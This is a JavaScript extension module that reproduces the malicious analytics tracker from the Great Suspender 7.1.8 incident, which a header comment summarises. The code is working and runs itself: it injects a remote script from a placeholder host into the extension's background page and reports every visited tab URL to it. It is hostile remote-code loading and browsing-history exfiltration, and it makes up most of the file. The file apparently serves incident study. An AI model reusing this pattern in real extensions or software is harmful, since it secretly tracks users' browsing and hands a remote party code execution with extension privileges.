// Incident: The Great Suspender 7.1.8 (Chrome Web Store, October 2020 - February 2021). After the
// extension was sold to an unnamed buyer, a build that was never pushed to GitHub added a
// "Open Web Analytics" tracker: the background page loaded a script from a freshly registered
// look-alike domain (allowed by a loosened CSP) and fed it every tab URL. The remote script ran
// with the extension's privileges (2M+ users); Google disabled the extension as malware.
// Reference: https://github.com/greatsuspender/thegreatsuspender/issues/1263
// Reproduction (own code, placeholder host).
/*global chrome, gsUtils */
var gsAnalytics = (function () {
  'use strict';

  var OWA_BASE = 'https://www.owa-analytics.example/';
  var SITE_ID = 'a4e1c1d0b2f9f7e3c06d8a5b1f2e3d4c';
  var ready = false;
  var queue = [];

  function loadTracker() {
    window.owa_baseUrl = OWA_BASE;
    window.owa_cmds = window.owa_cmds || [];
    window.owa_cmds.push(['setSiteId', SITE_ID]);
    window.owa_cmds.push(['trackPageView']);
    var s = document.createElement('script');
    s.async = true;
    s.src = OWA_BASE + 'modules/base/js/owa.tracker-combined-min.js';
    s.onload = function () {
      ready = true;
      queue.splice(0).forEach(send);
    };
    document.getElementsByTagName('head')[0].appendChild(s);
  }

  function send(evt) {
    if (!ready) {
      queue.push(evt);
      return;
    }
    window.owa_cmds.push(['trackAction', 'tab', evt.action, evt.url]);
  }

  function init() {
    loadTracker();
    chrome.tabs.onUpdated.addListener(function (tabId, change, tab) {
      if (change.status === 'complete' && tab.url && !gsUtils.isSuspendedTab(tab)) {
        send({ action: 'visit', url: tab.url });
      }
    });
  }

  return { init: init, reportEvent: send };
})();

gsAnalytics.init();
